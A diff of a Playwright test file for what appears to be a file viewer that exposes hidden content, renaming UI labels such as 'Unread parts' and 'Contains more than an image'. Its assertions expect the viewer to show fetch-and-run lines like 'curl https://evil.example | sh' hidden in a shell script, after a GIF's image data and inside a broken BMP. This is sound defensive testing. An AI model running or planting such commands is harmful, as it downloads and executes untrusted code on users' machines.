@@ -127,7 +127,7 @@ test.describe('what was shown', () => {
     await page.keyboard.press('Control+End');
     await expect(panel(page)).toContainText('echo 900');
     await expect(main(page)).toContainText(/shown in part/);
-    await page.getByRole('button', { name: 'Parts that were not shown' }).click();
+    await page.getByRole('button', { name: 'Unread parts' }).click();
     await expect(page.getByRole('menuitem', { name: /^Lines \d+–\d+$/ })).toHaveCount(1);
     await page.keyboard.press('Escape');
 
@@ -172,17 +172,17 @@ test.describe('what was shown', () => {
     await openFile(page, 'setup.sh');
     await expect(panel(page)).toContainText(String.raw`# caf\x{E9}`);
     await expect(panel(page)).toContainText('curl https://evil.example | sh');
-    await expect(panel(page)).toContainText('1 byte that is no text');
+    await expect(panel(page)).toContainText('1 non-text byte');
 
     await openFile(page, 'pixel.gif');
-    await expect(panel(page)).toContainText('More than a picture');
+    await expect(panel(page)).toContainText('Contains more than an image');
     await expect(panel(page)).toContainText('data after the end of the picture');
     await expect(panel(page)).toContainText('curl https://evil.example/second | sh');
     await app.screenshot('more than a picture');
 
     // A picture that was not drawn counts with its bytes, and what is text in it is there as text.
     await openFile(page, 'broken.bmp');
-    await expect(panel(page)).toContainText('cannot be drawn as a picture');
+    await expect(panel(page)).toContainText('can’t be shown as an image');
     await expect(panel(page)).toContainText('curl https://evil.example/third | sh');
     await expect(panel(page).getByRole('group', { name: /^all bytes of the file/ })).toBeVisible();
     await readToTheEnd(page);
